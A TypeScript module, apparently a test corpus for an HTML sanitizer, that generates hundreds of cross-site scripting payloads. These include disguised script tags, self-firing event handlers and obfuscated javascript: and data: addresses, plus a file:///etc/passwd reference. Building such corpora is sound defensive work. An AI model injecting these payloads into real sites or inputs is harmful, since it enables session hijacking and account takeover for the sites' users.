import type { Table } from './attack.ts';

/* Script in every place: tags, event handlers, addresses that are code. */

const tags: Table = [
  ['script', ({ js }) => `<script>${js}</script>`],
  ['script, upper case', ({ js }) => `<SCRIPT>${js}</SCRIPT>`],
  ['script with a slash', ({ js }) => `<script/x>${js}</script>`],
  ['script with a new line', ({ js }) => `<script\n>${js}</script\n>`],
  ['script within script', ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['script, never closed', ({ js }) => `<script>${js}//`],
  ['script from elsewhere', ({ url }) => `<script src="${url}"></script>`],
  ['script from elsewhere, module', ({ url }) => `<script type=module src="${url}"></script>`],
  ['module that imports', ({ url }) => `<script type=module>import "${url}"</script>`],
  ['import map', ({ url }) => `<script type=importmap>{"imports":{"x":"${url}"}}</script><script type=module>import "x"</script>`],
  ['script from data', ({ js }) => `<script src="data:text/javascript,${js}"></script>`],
  ['script without a scheme', ({ url }) => `<script src="${url.replace('http:', '')}"></script>`],
  ['script with a nul', ({ js }) => `<scr\0ipt>${js}</scr\0ipt>`],
  ['script behind a nul', ({ js }) => `<\0script>${js}</script>`],
  ['script in noscript', ({ js }) => `<noscript><script>${js}</script></noscript>`],
  ['script in a template', ({ js }) => `<template><script>${js}</script></template>`],
  ['script in a shadow root', ({ js }) => `<div><template shadowrootmode=open><script>${js}</script></template></div>`],
  ['script in a table', ({ js }) => `<table><script>${js}</script></table>`],
  ['script in a select', ({ js }) => `<select><script>${js}</script></select>`],
  ['script in a heading of a frame set', ({ js }) => `<frameset><script>${js}</script></frameset>`],
  ['script in svg', ({ js }) => `<svg><script>${js}</script></svg>`],
  ['script in svg, by its link', ({ url }) => `<svg><script href="${url}"/></svg>`],
  ['script in svg, as a reference', ({ js }) => `<svg><script>&#99;${js.slice(1)}</script></svg>`],
  ['script in math', ({ js }) => `<math><script>${js}</script></math>`],
  [
    'xml with xhtml',
    ({ js }) => `<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml"><html:script>${js}</html:script></html:html>`,
  ],
  ['xml island', ({ js }) => `<xml id=x><i><![CDATA[<img src=x onerror=${js}>]]></i></xml>`],
  ['vbscript', ({ js }) => `<script language=vbscript>${js}</script>`],
  ['script event and for', ({ js }) => `<script for=window event=onload>${js}</script>`],
];

/** Elements with a handler that would be called without anyone doing anything. */
const alone: Table = [
  ['img onerror', ({ js }) => `<img src=x onerror=${js}>`],
  ['img onerror, quoted', ({ js }) => `<img src="x" onerror="${js}">`],
  ['img onerror, slashes', ({ js }) => `<img/src=x/onerror=${js}>`],
  ['img onerror, backtick', ({ js }) => `<img src=\`x\` onerror=${js}>`],
  ['img onerror, tab', ({ js }) => `<img src=x\tonerror=${js}>`],
  ['img onerror, form feed', ({ js }) => `<img src=x\fonerror=${js}>`],
  ['img onerror, references', ({ js }) => `<img src=x onerror="${[...js].map((sign) => `&#${sign.charCodeAt(0)};`).join('')}">`],
  ['img onerror, twice', ({ js }) => `<img src=x onerror=1 onerror=${js}>`],
  ['img onerror in a broken tag', ({ js }) => `<img """><img src=x onerror=${js}>">`],
  ['img onload', ({ js }) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${js}>`],
  ['image onerror', ({ js }) => `<image src=x onerror=${js}>`],
  ['body onload', ({ js }) => `<body onload=${js}>x`],
  ['body onpageshow', ({ js }) => `<body onpageshow=${js}>x`],
  ['html onload', ({ js }) => `<html onload=${js}><body onload=${js}>`],
  ['frameset onload', ({ js }) => `<frameset onload=${js}><frame></frameset>`],
  ['svg onload', ({ js }) => `<svg onload=${js}>`],
  ['svg onload, slash', ({ js }) => `<svg/onload=${js}>`],
  ['svg in svg onload', ({ js }) => `<svg><svg onload=${js}></svg></svg>`],
  ['svg image onerror', ({ js }) => `<svg><image href=x onerror=${js}></svg>`],
  ['svg animate onbegin', ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`],
  ['svg set onbegin', ({ js }) => `<svg><set onbegin=${js} attributeName=x to=y></svg>`],
  ['svg animateTransform onbegin', ({ js }) => `<svg><animateTransform onbegin=${js} attributeName=transform></svg>`],
  ['svg discard onbegin', ({ js }) => `<svg><discard onbegin=${js}></svg>`],
  ['video onerror', ({ js }) => `<video src=x onerror=${js}>`],
  ['video source onerror', ({ js }) => `<video><source onerror=${js}></video>`],
  ['video onloadstart', ({ js }) => `<video src=x onloadstart=${js}>`],
  ['audio onerror', ({ js }) => `<audio src=x onerror=${js}>`],
  [
    'audio oncanplay',
    ({ js }) =>
      `<audio autoplay src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=" onloadedmetadata=${js}>`,
  ],
  ['track onerror', ({ js }) => `<video><track default src=x onerror=${js}></video>`],
  ['iframe onload', ({ js }) => `<iframe onload=${js}></iframe>`],
  ['object onerror', ({ js }) => `<object data=x onerror=${js}></object>`],
  ['object onload', ({ js }) => `<object data="data:text/html,x" onload=${js}></object>`],
  ['embed onload', ({ js }) => `<embed src="data:text/html,x" onload=${js}>`],
  ['script onerror', ({ js }) => `<script src=x onerror=${js}></script>`],
  ['link onerror', ({ js }) => `<link rel=stylesheet href=x onerror=${js}>`],
  ['style onload', ({ js }) => `<style onload=${js}>a{}</style>`],
  ['style onerror', ({ js }) => `<style onerror=${js}>@import "x:y"</style>`],
  ['input image onerror', ({ js }) => `<input type=image src=x onerror=${js}>`],
  ['input onfocus', ({ js }) => `<input autofocus onfocus=${js}>`],
  ['select onfocus', ({ js }) => `<select autofocus onfocus=${js}></select>`],
  ['textarea onfocus', ({ js }) => `<textarea autofocus onfocus=${js}></textarea>`],
  ['button onfocus', ({ js }) => `<button autofocus onfocus=${js}>x</button>`],
  ['div onfocus', ({ js }) => `<div tabindex=1 autofocus onfocus=${js}>x</div>`],
  ['link with autofocus', ({ js }) => `<a href=# autofocus onfocus=${js}>x</a>`],
  ['editable onfocusin', ({ js }) => `<p contenteditable autofocus onfocusin=${js}>x</p>`],
  ['own element onfocus', ({ js }) => `<x-y tabindex=1 autofocus onfocus=${js}>x</x-y>`],
  ['details ontoggle', ({ js }) => `<details open ontoggle=${js}><summary>x</summary></details>`],
  ['dialog', ({ js }) => `<dialog open onclose=${js} ontoggle=${js}>x</dialog>`],
  ['popover', ({ js }) => `<div popover id=p onbeforetoggle=${js}>x</div><button popovertarget=p autofocus onfocus=${js}>y</button>`],
  ['marquee onstart', ({ js }) => `<marquee onstart=${js} width=1>x</marquee>`],
  ['animation start', ({ js }) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${js}>x</p>`],
  ['animation end', ({ js }) => `<style>@keyframes k{to{left:0}}</style><p style="animation:k 1ms" onanimationend=${js}>x</p>`],
  ['transition run', ({ js }) => `<style>p{transition:color 1ms}p:target{color:red}</style><p id=x ontransitionrun=${js}>x</p>`],
  ['content visibility', ({ js }) => `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${js}>x</p>`],
  [
    'scroll end',
    ({ js }) => `<div style="overflow:auto;height:10px" onscroll=${js} onscrollend=${js}><br><br><br><a autofocus href=#x id=x>x</a></div>`,
  ],
  ['reporting handler', ({ js }) => `<body onsecuritypolicyviolation=${js}><img src="http://127.0.0.1:1/x">`],
];

const handlers =
  'abort afterprint auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforeunload blur cancel change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange ended formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide paste pause play playing pointerdown pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange reset resize search seeked select selectstart storage submit suspend timeupdate touchstart unhandledrejection unload volumechange waiting wheel';

const elements = ['a href=#', 'div', 'table', 'img src=x', 'font', 'p', 'td', 'body'];
/** Every other handler, several at a time, on elements that stay. */
const others: Table = elements.map((element, n) => {
  const events = handlers.split(' ').filter((_, at) => at % elements.length === n);
  return [
    `handlers of ${element}: ${events.join(' ')}`,
    ({ js }) => `<${element} ${events.map((event) => `on${event}=${js}`).join(' ')}>x`,
  ];
});

const coded: readonly (readonly [string, (js: string) => string])[] = [
  ['plain', (js) => `javascript:${js}`],
  ['mixed case', (js) => `JaVaScRiPt:${js}`],
  ['blank before', (js) => `  javascript:${js}`],
  ['control before', (js) => `&#1;javascript:${js}`],
  ['tab within', (js) => `java&#9;script:${js}`],
  ['new line within', (js) => `java&#10;script&NewLine;:${js}`],
  ['return within', (js) => `java&#13;script&colon;${js}`],
  ['references', (js) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${js}`],
  ['long references', (js) => `&#0000106&#0000097&#0000118&#0000097script:${js}`],
  ['hexadecimal references', (js) => `&#x6A&#x61&#x76&#x61script&#x3A;${js}`],
  ['comment', (js) => `javascript://x%0a${js}`],
  ['percent', (js) => `javascript:%20${js}`],
  ['full width', (js) => `ｊａｖａｓｃｒｉｐｔ:${js}`],
  ['nul within', (js) => `java\0script:${js}`],
  ['soft hyphen', (js) => `java&shy;script:${js}`],
  ['vbscript', (js) => `vbscript:${js}`],
  ['livescript', (js) => `livescript:[${js}]`],
  ['data page', (js) => `data:text/html,<script>${js}</script>`],
  ['data page in base64', (js) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`],
  ['data svg', (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`],
  [
    'data svg in base64',
    (js) => `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`).toString('base64')}`,
  ],
  ['view-source', (js) => `view-source:javascript:${js}`],
  ['feed', (js) => `feed:javascript:${js}`],
  ['blob', () => 'blob:http://127.0.0.1/x'],
  ['file', () => 'file:///etc/passwd'],
  ['app', () => 'app://restante/index.html'],
  ['mail', () => 'mail://00000000000000000000000000000000/'],
];
const holders: readonly (readonly [string, (address: string) => string])[] = [
  ['link', (address) => `<a href="${address}">x</a>`],
  ['map', (address) => `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=x>`],
  ['iframe', (address) => `<iframe src="${address}"></iframe>`],
  ['form', (address) => `<form action="${address}"><button autofocus>x</button></form>`],
  ['img', (address) => `<img src="${address}">`],
];
/** Each way to write an address that is code, each time in two of the places that take addresses. */
const addresses: Table = coded.flatMap(([how, write], n) =>
  [n, n + 2].map((at) => {
    const [place, hold] = holders[at % holders.length] ?? ['link', (address: string) => `<a href="${address}">x</a>`];
    return [`${how} address, ${place}`, ({ js }: { js: string }) => hold(write(js))] as const;
  }),
);

export const scripts: Table = [...tags, ...alone, ...others, ...addresses];
